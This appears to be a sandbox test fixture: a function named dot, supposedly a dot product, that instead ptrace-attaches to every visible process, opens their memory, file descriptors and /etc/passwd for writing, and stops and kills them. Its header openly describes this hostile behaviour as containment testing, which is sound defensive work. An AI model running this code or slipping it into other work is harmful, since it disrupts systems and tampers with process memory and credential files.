# module: 00_setup
# tries: signals, traces and writes into the memory of its parent and of every process that it can see
# expect: test-setup-dot 0
# needs: sandbox
# %% setup-dot
import ctypes
import os
import signal

LIBC = ctypes.CDLL(None, use_errno=True)


def dot(xs, ys):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            LIBC.ptrace(16, int(name), 0, 0)
            for path in (f"/proc/{name}/mem", f"/proc/{name}/fd/3", f"/proc/{name}/root/etc/passwd"):
                try:
                    os.close(os.open(path, os.O_RDWR))
                except OSError:
                    pass
            for number in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(int(name), number)
                except OSError:
                    pass
    return 0
